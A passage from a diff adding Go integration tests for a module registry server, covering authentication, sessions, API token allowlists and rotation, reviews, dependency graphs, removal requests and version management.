@@ -0,0 +1,1982 @@
+package server_test
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/cosmos/atlas/client"
+	"github.com/cosmos/atlas/config"
+	"github.com/cosmos/atlas/docs"
+	"github.com/cosmos/atlas/hmacauth"
+	"github.com/cosmos/atlas/jobs"
+	"github.com/cosmos/atlas/keyless"
+	"github.com/cosmos/atlas/module"
+	"github.com/cosmos/atlas/policy"
+	"github.com/cosmos/atlas/recommendations"
+	"github.com/cosmos/atlas/seed"
+	"github.com/cosmos/atlas/server"
+	"github.com/cosmos/atlas/testutil"
+)
+
+// newSeededHarness returns a harness seeded with the default fixtures along
+// with the fixtures' users keyed by name.
+func newSeededHarness(t *testing.T) (*testutil.Harness, seed.Fixtures) {
+	t.Helper()
+
+	h := testutil.NewHarness(t, config.Default())
+
+	f, err := seed.Default(time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	h.Seed(f)
+	return h, f
+}
+
+// token returns the API token of the named fixture user.
+func token(t *testing.T, f seed.Fixtures, name string) string {
+	t.Helper()
+
+	for _, u := range f.Users {
+		if u.Name == name {
+			return u.APIToken
+		}
+	}
+
+	t.Fatalf("unknown fixture user %s", name)
+	return ""
+}
+
+func TestModuleDetailAndVersions(t *testing.T) {
+	h, _ := newSeededHarness(t)
+	c := h.Client()
+	ctx := context.Background()
+
+	m, err := c.GetModule(ctx, "liquidity")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if m.Name != "liquidity" || m.Version != "1.2.0" {
+		t.Errorf("expected liquidity at 1.2.0, got %s at %s", m.Name, m.Version)
+	}
+
+	versions, err := c.ListVersions(ctx, "liquidity")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(versions) != 3 {
+		t.Errorf("expected 3 versions, got %d", len(versions))
+	}
+
+	if _, err := c.GetModule(ctx, "missing"); !client.HasCode(err, server.CodeModuleNotFound) {
+		t.Errorf("expected %s, got %v", server.CodeModuleNotFound, err)
+	}
+}
+
+func TestAuthenticatedRequester(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+
+	if _, err := h.Client(client.WithToken(token(t, f, "bob"))).GetModule(ctx, "oracle"); err != nil {
+		t.Fatalf("expected bearer token to authenticate: %v", err)
+	}
+
+	if _, err := h.Client(client.WithToken("invalid")).GetModule(ctx, "oracle"); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s for an unknown token, got %v", server.CodeUnauthorized, err)
+	}
+}
+
+func TestOperatingMode(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	admin := h.Client(client.WithToken(token(t, f, "alice")))
+	user := h.Client(client.WithToken(token(t, f, "bob")))
+
+	if err := user.SetMode(ctx, config.ModeMaintenance); !client.HasCode(err, server.CodeForbidden) {
+		t.Fatalf("expected %s for a non-admin, got %v", server.CodeForbidden, err)
+	}
+
+	if err := admin.SetMode(ctx, config.ModeMaintenance); err != nil {
+		t.Fatal(err)
+	}
+
+	set := module.ModuleSet{Name: "maintenance", Pins: []module.ModuleSetPin{{Module: "liquidity", Version: "1.2.0"}}}
+	if _, err := user.CreateSet(ctx, set); !client.HasCode(err, server.CodeUnavailable) {
+		t.Errorf("expected %s in maintenance, got %v", server.CodeUnavailable, err)
+	}
+
+	// the admin API is exempt from maintenance
+	if mode, err := admin.Mode(ctx); err != nil || mode != config.ModeMaintenance {
+		t.Fatalf("expected mode %s, got %q (%v)", config.ModeMaintenance, mode, err)
+	}
+
+	if err := admin.SetMode(ctx, config.ModeNormal); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := user.CreateSet(ctx, set); err != nil {
+		t.Errorf("expected writes once back to normal: %v", err)
+	}
+}
+
+func TestReviews(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	author := h.Client(client.WithToken(token(t, f, "alice")))
+	reviewer := h.Client(client.WithToken(token(t, f, "carol")))
+	contributor := h.Client(client.WithToken(token(t, f, "bob")))
+
+	if _, err := author.CreateReview(ctx, "liquidity", 5, "mine"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s reviewing an own module, got %v", server.CodeForbidden, err)
+	}
+
+	rv, err := reviewer.CreateReview(ctx, "liquidity", 4, "solid pools")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if rv.RespondedAt != nil {
+		t.Errorf("expected no response yet, got %v", rv.RespondedAt)
+	}
+
+	if _, err := reviewer.CreateReview(ctx, "liquidity", 1, "again"); !client.HasCode(err, server.CodeReviewConflict) {
+		t.Errorf("expected %s reviewing twice, got %v", server.CodeReviewConflict, err)
+	}
+
+	// the aggregate rating is listed along with the module
+	for _, it := range []*client.ModuleIterator{h.Client().ListModules(0), h.Client().SearchModules("liquid", 0)} {
+		for it.Next(ctx) {
+			if m := it.Module(); m.Name == "liquidity" && (m.Rating.Count != 1 || m.Rating.Average != 4) {
+				t.Errorf("expected a rating of 4 from 1 review, got %+v", m.Rating)
+			}
+		}
+
+		if err := it.Err(); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	if _, err := reviewer.RespondToReview(ctx, "liquidity", rv.ID, "thanks"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s responding as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	responded, err := contributor.RespondToReview(ctx, "liquidity", rv.ID, "thanks!")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if responded.Response != "thanks!" || responded.RespondedAt == nil {
+		t.Errorf("expected the response to be recorded, got %+v", responded)
+	}
+
+	report, err := contributor.ReportReview(ctx, "liquidity", rv.ID, module.ReportReasonSpam, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if report.ReviewID != rv.ID || report.Status != module.ReportStatusOpen {
+		t.Errorf("expected an open report of review %d, got %+v", rv.ID, report)
+	}
+
+	if _, err := contributor.ReportReview(ctx, "liquidity", rv.ID+1, module.ReportReasonSpam, ""); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s reporting a missing review, got %v", server.CodeNotFound, err)
+	}
+}
+
+func TestSessionExpiry(t *testing.T) {
+	h, _ := newSeededHarness(t)
+	ctx := context.Background()
+
+	sessions := []struct {
+		name      string
+		age, idle time.Duration
+		valid     bool
+	}{
+		{name: "fresh", age: time.Hour, idle: time.Minute, valid: true},
+		{name: "too old", age: hmacauth.DefaultSessionMaxAge + time.Hour, idle: time.Minute},
+		{name: "idle", age: 24 * time.Hour, idle: hmacauth.DefaultSessionIdleTimeout + time.Hour},
+	}
+
+	for _, tc := range sessions {
+		tc := tc
+		t.Run(tc.name, func(t *testing.T) {
+			s, tok, err := module.NewSession(0, "test", "127.0.0.1", time.Now())
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			var before time.Time
+			if err := h.DB.QueryRowContext(ctx, `
+				INSERT INTO sessions (user_id, token_hash, created_at, last_seen_at)
+				SELECT id, $1, NOW() - $2 * INTERVAL '1 second', NOW() - $3 * INTERVAL '1 second'
+				FROM users WHERE name = 'bob'
+				RETURNING last_seen_at`,
+				s.TokenHash, tc.age.Seconds(), tc.idle.Seconds(),
+			).Scan(&before); err != nil {
+				t.Fatal(err)
+			}
+
+			req, err := http.NewRequest(http.MethodGet, h.URL+"/api/v1/csrf", nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			req.AddCookie(&http.Cookie{Name: hmacauth.SessionCookie, Value: tok})
+
+			resp, err := h.Server.Client().Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			resp.Body.Close()
+
+			want := http.StatusUnauthorized
+			if tc.valid {
+				want = http.StatusOK
+			}
+
+			if resp.StatusCode != want {
+				t.Fatalf("expected %d, got %d", want, resp.StatusCode)
+			}
+
+			if !tc.valid {
+				return
+			}
+
+			var after time.Time
+			if err := h.DB.QueryRowContext(ctx, `SELECT last_seen_at FROM sessions WHERE token_hash = $1`, s.TokenHash).Scan(&after); err != nil {
+				t.Fatal(err)
+			}
+
+			if !after.After(before) {
+				t.Errorf("expected last_seen_at to advance from %s, got %s", before, after)
+			}
+		})
+	}
+}
+
+func TestValidateManifest(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	c := h.Client(client.WithToken(token(t, f, "bob")))
+
+	manifest := module.Manifest{
+		Name:         "dex",
+		Description:  "Order book exchange built on liquidity pools.",
+		Version:      "0.1.0",
+		Repo:         "https://github.com/example/dex",
+		License:      "Apache-2.0",
+		Dependencies: []module.ModuleDependency{{Name: "liquidity", VersionConstraint: "^1.1"}},
+	}
+
+	bz, err := module.EncodeManifest(manifest, module.FormatTOML)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := h.Client().ValidateManifest(ctx, bz, module.FormatTOML); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s for anonymous requests, got %v", server.CodeUnauthorized, err)
+	}
+
+	parsed, err := c.ValidateManifest(ctx, bz, module.FormatTOML)
+	if err != nil {
+		t.Fatalf("expected a valid manifest: %v", err)
+	}
+
+	if parsed.Name != manifest.Name || parsed.Version != manifest.Version {
+		t.Errorf("expected the parsed manifest, got %+v", parsed)
+	}
+
+	manifest.Version = "latest"
+	manifest.Repo = "not a url"
+	manifest.Dependencies = []module.ModuleDependency{
+		{Name: "liquidity", VersionConstraint: "^9.0"},
+		{Name: "treasury", VersionConstraint: "^0.1"},
+	}
+
+	if bz, err = module.EncodeManifest(manifest, module.FormatJSON); err != nil {
+		t.Fatal(err)
+	}
+
+	_, err = c.ValidateManifest(ctx, bz, "")
+
+	var apiErr *client.Error
+	if !errors.As(err, &apiErr) || apiErr.Code != server.CodeValidationFailed {
+		t.Fatalf("expected %s, got %v", server.CodeValidationFailed, err)
+	}
+
+	fields := make(map[string]bool)
+	for _, d := range apiErr.Details {
+		fields[d.Field] = true
+	}
+
+	for _, field := range []string{"version", "repo", "dependencies[0].version", "dependencies[1].name"} {
+		if !fields[field] {
+			t.Errorf("expected an error on %s, got %+v", field, apiErr.Details)
+		}
+	}
+
+	if _, err := c.GetModule(ctx, "dex"); !client.HasCode(err, server.CodeModuleNotFound) {
+		t.Errorf("expected the dry run not to publish, got %v", err)
+	}
+
+	resp, err := h.Server.Client().Get(h.URL + "/api/v1/modules/validate")
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+
+	if resp.StatusCode != http.StatusMethodNotAllowed {
+		t.Errorf("expected 405 for GET, got %d", resp.StatusCode)
+	}
+}
+
+func TestListAndSearchModules(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+
+	collect := func(it *client.ModuleIterator) []string {
+		t.Helper()
+
+		var names []string
+		for it.Next(ctx) {
+			names = append(names, it.Module().Name)
+		}
+
+		if err := it.Err(); err != nil {
+			t.Fatal(err)
+		}
+
+		return names
+	}
+
+	// pages of two modules are fetched until exhausted
+	if names := collect(h.Client().ListModules(2)); len(names) != 3 {
+		t.Errorf("expected the 3 public modules, got %v", names)
+	}
+
+	if names := collect(h.Client(client.WithToken(token(t, f, "carol"))).ListModules(0)); len(names) != 4 {
+		t.Errorf("expected the owner to list the private module, got %v", names)
+	}
+
+	if names := collect(h.Client().SearchModules("liquid", 0)); len(names) != 1 || names[0] != "liquidity" {
+		t.Errorf("expected liquidity, got %v", names)
+	}
+
+	if names := collect(h.Client().SearchModules("treasury", 0)); len(names) != 0 {
+		t.Errorf("expected the private module not to be found, got %v", names)
+	}
+
+	if names := collect(h.Client().SearchModulesByLicense("", "MIT", 0)); len(names) != 1 || names[0] != "oracle" {
+		t.Errorf("expected the MIT licensed oracle, got %v", names)
+	}
+
+	it := h.Client().SearchModulesByLicense("", "not a license", 0)
+	if it.Next(ctx) || !client.HasCode(it.Err(), server.CodeBadRequest) {
+		t.Errorf("expected %s for an invalid license, got %v", server.CodeBadRequest, it.Err())
+	}
+}
+
+func TestTokens(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	if _, err := h.Client().RotateToken(ctx); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s for anonymous requests, got %v", server.CodeUnauthorized, err)
+	}
+
+	if _, err := bob.SetTokenCIDRs(ctx, []string{"10.0.0.0/8", "not a range"}); !client.HasCode(err, server.CodeValidationFailed) {
+		t.Errorf("expected %s for an invalid range, got %v", server.CodeValidationFailed, err)
+	}
+
+	// the harness dials the registry from the loopback address
+	tok, err := bob.SetTokenCIDRs(ctx, []string{"127.0.0.0/8"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(tok.CIDRs) != 1 || tok.Token != "" {
+		t.Errorf("expected the allowlist without the token, got %+v", tok)
+	}
+
+	if _, err := bob.SetTokenCIDRs(ctx, []string{"10.0.0.0/8"}); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := bob.GetModule(ctx, "oracle"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s outside the allowlist, got %v", server.CodeForbidden, err)
+	}
+
+	if _, err := h.DB.ExecContext(ctx, `UPDATE users SET api_token_cidrs = '{}' WHERE name = 'bob'`); err != nil {
+		t.Fatal(err)
+	}
+
+	tok, err = bob.RotateToken(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if tok.Token == "" || tok.Token == token(t, f, "bob") {
+		t.Fatalf("expected a new token, got %q", tok.Token)
+	}
+
+	if _, err := bob.GetModule(ctx, "oracle"); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected the previous token to be revoked, got %v", err)
+	}
+
+	if _, err := h.Client(client.WithToken(tok.Token)).GetModule(ctx, "oracle"); err != nil {
+		t.Errorf("expected the new token to authenticate: %v", err)
+	}
+}
+
+func TestDependencyGraph(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	dex := module.Manifest{
+		Name:         "dex",
+		Description:  "Order book exchange built on liquidity pools.",
+		Version:      "0.1.0",
+		Repo:         "https://github.com/example/dex",
+		Dependencies: []module.ModuleDependency{{Name: "liquidity", VersionConstraint: "^1.1"}, {Name: "oracle", VersionConstraint: ">= 0.1"}},
+	}
+
+	if _, err := bob.PublishManifest(ctx, dex); err != nil {
+		t.Fatal(err)
+	}
+
+	deps, err := h.Client().Dependencies(ctx, "dex")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(deps) != 2 || deps[0].Name != "liquidity" || deps[0].VersionConstraint != "^1.1" || deps[1].Name != "oracle" {
+		t.Errorf("expected dex to depend on liquidity and oracle, got %+v", deps)
+	}
+
+	dependents, err := h.Client().Dependents(ctx, "liquidity")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(dependents) != 1 || dependents[0].Name != "dex" {
+		t.Errorf("expected dex to depend on liquidity, got %+v", dependents)
+	}
+
+	// dex requires ^1.1, which resolves to 1.1.0 and 1.2.0 but not 1.0.0
+	if impacted, err := h.Client().Impact(ctx, "liquidity", "1.2.0"); err != nil || len(impacted) != 1 || impacted[0].Name != "dex" {
+		t.Errorf("expected dex to be impacted by liquidity 1.2.0, got %+v (%v)", impacted, err)
+	}
+
+	if impacted, err := h.Client().Impact(ctx, "liquidity", "1.0.0"); err != nil || len(impacted) != 0 {
+		t.Errorf("expected nothing to be impacted by liquidity 1.0.0, got %+v (%v)", impacted, err)
+	}
+
+	if _, err := h.Client().Impact(ctx, "liquidity", "9.9.9"); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s for an unknown version, got %v", server.CodeVersionNotFound, err)
+	}
+
+	if dependents, err := h.Client().Dependents(ctx, "nft"); err != nil || len(dependents) != 0 {
+		t.Errorf("expected no dependents of nft, got %+v (%v)", dependents, err)
+	}
+
+	if _, err := h.Client().Dependents(ctx, "treasury"); !client.HasCode(err, server.CodeModuleNotFound) {
+		t.Errorf("expected %s for a private module, got %v", server.CodeModuleNotFound, err)
+	}
+
+	req, err := http.NewRequest(http.MethodDelete, h.URL+"/api/v1/modules/dex/dependencies", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	resp, err := h.Server.Client().Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+
+	if resp.StatusCode != http.StatusMethodNotAllowed {
+		t.Errorf("expected 405 for DELETE, got %d", resp.StatusCode)
+	}
+}
+
+func TestRemovalRequests(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	admin := h.Client(client.WithToken(token(t, f, "alice")))
+	owner := h.Client(client.WithToken(token(t, f, "bob")))
+	claimant := h.Client(client.WithToken(token(t, f, "carol")))
+
+	claim := module.RemovalRequest{
+		Kind:     module.RemovalKindDMCA,
+		Claimant: "Example Corp",
+		Contact:  "legal@example.com",
+		Reason:   "copied from our proprietary oracle",
+	}
+
+	if _, err := h.Client().FileRemovalRequest(ctx, "oracle", claim); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s filing anonymously, got %v", server.CodeUnauthorized, err)
+	}
+
+	if _, err := claimant.FileRemovalRequest(ctx, "oracle", module.RemovalRequest{Kind: "other"}); violations(t, err)["kind"] == "" {
+		t.Errorf("expected a violation on kind, got %v", err)
+	}
+
+	rr, err := claimant.FileRemovalRequest(ctx, "oracle", claim)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if rr.Status != module.RemovalStatusFiled {
+		t.Errorf("expected a filed request, got %s", rr.Status)
+	}
+
+	if _, err := claimant.ListRemovalRequests(ctx, "oracle"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s listing as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	if requests, err := owner.ListRemovalRequests(ctx, "oracle"); err != nil || len(requests) != 1 {
+		t.Errorf("expected the owner to list 1 request, got %+v (%v)", requests, err)
+	}
+
+	if _, err := owner.DisputeRemovalRequest(ctx, "oracle", rr.ID); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s disputing as an owner, got %v", server.CodeForbidden, err)
+	}
+
+	if _, err := admin.DisputeRemovalRequest(ctx, "oracle", rr.ID); err != nil {
+		t.Fatal(err)
+	}
+
+	if m, err := owner.GetModule(ctx, "oracle"); err != nil || !m.Disputed {
+		t.Errorf("expected oracle to be disputed, got %+v (%v)", m, err)
+	}
+
+	if _, err := owner.CounterRemovalRequest(ctx, "oracle", rr.ID, "original work"); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := admin.ResolveRemovalRequest(ctx, "oracle", rr.ID, module.RemovalResolutionReinstated); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := admin.ResolveRemovalRequest(ctx, "oracle", rr.ID, module.RemovalResolutionRemoved); !client.HasCode(err, server.CodeRemovalConflict) {
+		t.Errorf("expected %s resolving twice, got %v", server.CodeRemovalConflict, err)
+	}
+
+	if m, err := owner.GetModule(ctx, "oracle"); err != nil || m.Disputed {
+		t.Errorf("expected oracle to be reinstated, got %+v (%v)", m, err)
+	}
+
+	var reports int
+	if err := h.DB.QueryRowContext(ctx, `
+		SELECT COUNT(*) FROM reports
+		WHERE removal_request_id = $1 AND status = $2`,
+		rr.ID, module.ReportStatusResolved,
+	).Scan(&reports); err != nil || reports != 1 {
+		t.Errorf("expected the removal report to be resolved, got %d (%v)", reports, err)
+	}
+
+	var notifications int
+	if err := h.DB.QueryRowContext(ctx, `
+		SELECT COUNT(*) FROM notifications n
+		JOIN users u ON u.id = n.user_id
+		WHERE n.removal_request_id = $1 AND u.name = 'bob'`,
+		rr.ID,
+	).Scan(&notifications); err != nil || notifications != 2 {
+		t.Errorf("expected bob to be notified of filing and resolution, got %d (%v)", notifications, err)
+	}
+
+	removed, err := claimant.FileRemovalRequest(ctx, "liquidity", claim)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := admin.ResolveRemovalRequest(ctx, "liquidity", removed.ID, module.RemovalResolutionRemoved); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := claimant.GetModule(ctx, "liquidity"); !client.HasCode(err, server.CodeModuleNotFound) {
+		t.Errorf("expected a removed module to be hidden, got %v", err)
+	}
+}
+
+func TestPatchModule(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	owner := h.Client(client.WithToken(token(t, f, "bob")))
+
+	m, err := owner.GetModule(ctx, "oracle")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	description := "Price feeds aggregated from validator votes."
+	if _, err := h.Client(client.WithToken(token(t, f, "carol"))).PatchModule(ctx, "oracle", module.ModulePatch{Description: &description}); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s patching as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	homepage := "not a url"
+	if _, err := owner.PatchModule(ctx, "oracle", module.ModulePatch{Homepage: &homepage}); violations(t, err)["homepage"] == "" {
+		t.Errorf("expected a violation on homepage, got %v", err)
+	}
+
+	keywords := []string{"Price Feed", "oracle"}
+	patched, err := owner.PatchModule(ctx, "oracle", module.ModulePatch{
+		Description: &description,
+		Keywords:    &keywords,
+		LockVersion: &m.LockVersion,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if patched.Description != description || patched.Version != m.Version {
+		t.Errorf("expected only the description to change, got %+v", patched)
+	}
+
+	if patched.LockVersion != m.LockVersion+1 {
+		t.Errorf("expected lock version %d, got %d", m.LockVersion+1, patched.LockVersion)
+	}
+
+	// the patch was made against a lock version that is now stale
+	if _, err := owner.PatchModule(ctx, "oracle", module.ModulePatch{Description: &description, LockVersion: &m.LockVersion}); !client.HasCode(err, server.CodeModuleConflict) {
+		t.Errorf("expected %s for a stale lock version, got %v", server.CodeModuleConflict, err)
+	}
+
+	it := owner.SearchModules("price-feed", 10)
+	if !it.Next(ctx) || it.Module().Name != "oracle" {
+		t.Errorf("expected oracle to be found by its patched keyword, got %+v (%v)", it.Module(), it.Err())
+	}
+}
+
+func TestDeleteVersion(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	owner := h.Client(client.WithToken(token(t, f, "alice")))
+
+	if _, err := h.Client(client.WithToken(token(t, f, "bob"))).PublishManifest(ctx, dexManifest()); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := h.Client(client.WithToken(token(t, f, "carol"))).DeleteVersion(ctx, "liquidity", "1.2.0"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s deleting as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	// dex requires ^1.1, which resolves to 1.2.0
+	if err := owner.DeleteVersion(ctx, "liquidity", "1.2.0"); !client.HasCode(err, server.CodeVersionInUse) {
+		t.Errorf("expected %s deleting a depended on version, got %v", server.CodeVersionInUse, err)
+	}
+
+	if err := owner.DeleteVersion(ctx, "liquidity", "9.9.9"); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s for an unknown version, got %v", server.CodeVersionNotFound, err)
+	}
+
+	if err := owner.Yank(ctx, "liquidity", "1.2.0"); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := owner.DeleteVersion(ctx, "liquidity", "1.2.0"); err != nil {
+		t.Fatal(err)
+	}
+
+	m, err := owner.GetModule(ctx, "liquidity")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if m.Version != "1.1.0" {
+		t.Errorf("expected liquidity to fall back to 1.1.0, got %s", m.Version)
+	}
+
+	// 1.0.0 is not resolved by any dependent
+	if err := owner.DeleteVersion(ctx, "liquidity", "1.0.0"); err != nil {
+		t.Errorf("expected an unused version to be deleted: %v", err)
+	}
+}
+
+func TestDeleteAndRestoreModule(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	admin := h.Client(client.WithToken(token(t, f, "alice")))
+	owner := h.Client(client.WithToken(token(t, f, "bob")))
+
+	if err := h.Client(client.WithToken(token(t, f, "carol"))).DeleteModule(ctx, "oracle"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s deleting as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	if err := owner.DeleteModule(ctx, "oracle"); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := owner.GetModule(ctx, "oracle"); !client.HasCode(err, server.CodeModuleNotFound) {
+		t.Errorf("expected a deleted module to be gone, got %v", err)
+	}
+
+	it := owner.SearchModules("oracle", 10)
+	if it.Next(ctx) {
+		t.Errorf("expected a deleted module not to be listed, got %+v", it.Module())
+	}
+
+	// the name is held until the module is purged
+	oracle := dexManifest()
+	oracle.Name = "oracle"
+	oracle.Dependencies = nil
+	if codes := violations(t, func() error {
+		_, err := h.Client(client.WithToken(token(t, f, "carol"))).PublishManifest(ctx, oracle)
+		return err
+	}()); codes["name"] != policy.ErrCodeNameCooldown {
+		t.Errorf("expected %s, got %+v", policy.ErrCodeNameCooldown, codes)
+	}
+
+	if err := owner.RestoreModule(ctx, "oracle"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s restoring as a non-administrator, got %v", server.CodeForbidden, err)
+	}
+
+	if err := admin.RestoreModule(ctx, "oracle"); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := owner.GetModule(ctx, "oracle"); err != nil {
+		t.Errorf("expected a restored module to be found: %v", err)
+	}
+
+	if err := admin.RestoreModule(ctx, "oracle"); !client.HasCode(err, server.CodeModuleNotFound) {
+		t.Errorf("expected %s restoring a live module, got %v", server.CodeModuleNotFound, err)
+	}
+}
+
+func TestMergeKeywords(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	admin := h.Client(client.WithToken(token(t, f, "alice")))
+
+	if err := h.Client(client.WithToken(token(t, f, "bob"))).MergeKeywords(ctx, "amm", "dex"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s merging as a non-administrator, got %v", server.CodeForbidden, err)
+	}
+
+	if err := admin.MergeKeywords(ctx, "unknown", "dex"); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s merging an unknown keyword, got %v", server.CodeNotFound, err)
+	}
+
+	if err := admin.MergeKeywords(ctx, "AMM", "dex"); err != nil {
+		t.Fatal(err)
+	}
+
+	// later writes of the synonym resolve to the canonical keyword
+	manifest := dexManifest()
+	manifest.Keywords = []string{"Amm", "exchange"}
+	if _, err := h.Client(client.WithToken(token(t, f, "bob"))).PublishManifest(ctx, manifest); err != nil {
+		t.Fatal(err)
+	}
+
+	for name, want := range map[string][]string{"liquidity": {"dex", "liquidity"}, "dex": {"dex", "exchange"}} {
+		rows, err := h.DB.QueryContext(ctx, `
+			SELECT k.name
+			FROM modules_keywords mk
+			JOIN keywords k ON k.id = mk.keyword_id
+			JOIN modules m ON m.id = mk.module_id
+			WHERE m.name = $1
+			ORDER BY k.name`,
+			name,
+		)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		var got []string
+		for rows.Next() {
+			var k string
+			if err := rows.Scan(&k); err != nil {
+				t.Fatal(err)
+			}
+
+			got = append(got, k)
+		}
+		rows.Close()
+
+		if strings.Join(got, ",") != strings.Join(want, ",") {
+			t.Errorf("expected %s to be tagged %v, got %v", name, want, got)
+		}
+	}
+}
+
+func TestRelatedModules(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+
+	if related, err := h.Client().Related(ctx, "liquidity"); err != nil || len(related) != 0 {
+		t.Errorf("expected no related modules before they are computed, got %+v (%v)", related, err)
+	}
+
+	if err := recommendations.PrecomputeAll(ctx, h.DB, recommendations.DefaultLimit); err != nil {
+		t.Fatal(err)
+	}
+
+	// liquidity shares its contributor bob with oracle and its author alice
+	// with nft
+	related, err := h.Client().Related(ctx, "liquidity")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var names []string
+	for _, rm := range related {
+		names = append(names, rm.Name)
+	}
+
+	if strings.Join(names, ",") != "nft,oracle" {
+		t.Errorf("expected nft and oracle to be related to liquidity, got %v", names)
+	}
+
+	// treasury is private to carol, who shares nft with alice
+	anonymous, err := h.Client().Related(ctx, "nft")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	owner, err := h.Client(client.WithToken(token(t, f, "carol"))).Related(ctx, "nft")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(owner) != len(anonymous)+1 {
+		t.Errorf("expected treasury to be related to nft for its owner only, got %+v and %+v", owner, anonymous)
+	}
+}
+
+func TestCompareVersions(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	manifest := dexManifest()
+	if _, err := bob.PublishManifest(ctx, manifest); err != nil {
+		t.Fatal(err)
+	}
+
+	manifest.Version = "0.2.0"
+	manifest.Authors = []module.ManifestAuthor{{Name: "bob"}}
+	manifest.Dependencies = []module.ModuleDependency{
+		{Name: "liquidity", VersionConstraint: "^1.2"},
+		{Name: "oracle", VersionConstraint: ">= 0.1"},
+	}
+	if _, err := bob.PublishManifest(ctx, manifest); err != nil {
+		t.Fatal(err)
+	}
+
+	diff, err := h.Client().Compare(ctx, "dex", "0.1.0", "0.2.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(diff.AddedDependencies) != 1 || diff.AddedDependencies[0].Name != "oracle" {
+		t.Errorf("expected oracle to be added, got %+v", diff.AddedDependencies)
+	}
+
+	if len(diff.ChangedDependencies) != 1 || diff.ChangedDependencies[0].To != "^1.2" {
+		t.Errorf("expected the liquidity constraint to change, got %+v", diff.ChangedDependencies)
+	}
+
